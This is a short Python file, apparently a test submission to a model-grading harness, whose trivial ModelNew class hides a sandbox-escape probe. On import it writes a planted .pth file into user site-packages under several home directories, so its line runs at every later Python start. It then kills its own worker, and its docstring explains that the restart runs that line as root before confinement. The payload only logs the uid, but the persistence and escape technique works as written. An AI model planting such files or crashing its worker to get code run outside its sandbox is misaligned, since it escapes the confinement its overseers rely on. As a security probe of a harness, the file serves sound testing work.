"""Writes a `.pth` file into the user site-packages of every home it may have (its worker's
HOME, its folder), which outlive a restart of its worker, then ends its worker. Python runs
a `.pth` file's import lines at its start: a worker started again cold is started as the
judge's user (root) by a launcher that confines itself only after that start, so the line
ran there, unconfined. It notes each process that ran it (`site-ran`, in the folder the
launcher starts in)."""

import os
import sys
import threading
import time
from pathlib import Path

import torch.nn as nn

VERSION = f"python{sys.version_info.major}.{sys.version_info.minor}"
LINE = (
    "import os; open(os.path.join(os.getcwd(), 'site-ran'), 'a').write(f'uid={os.getuid()}\\n')\n"
)
for home in {os.environ.get("HOME", ""), os.path.join(os.getcwd(), "home"), os.getcwd()}:
    site = Path(home) / ".local" / "lib" / VERSION / "site-packages"
    site.mkdir(parents=True, exist_ok=True)
    (site / "planted.pth").write_text(LINE)

threading.Thread(target=lambda: (time.sleep(0.5), os._exit(3)), daemon=True).start()


class ModelNew(nn.Module):
    def forward(self, x):
        return x * 2
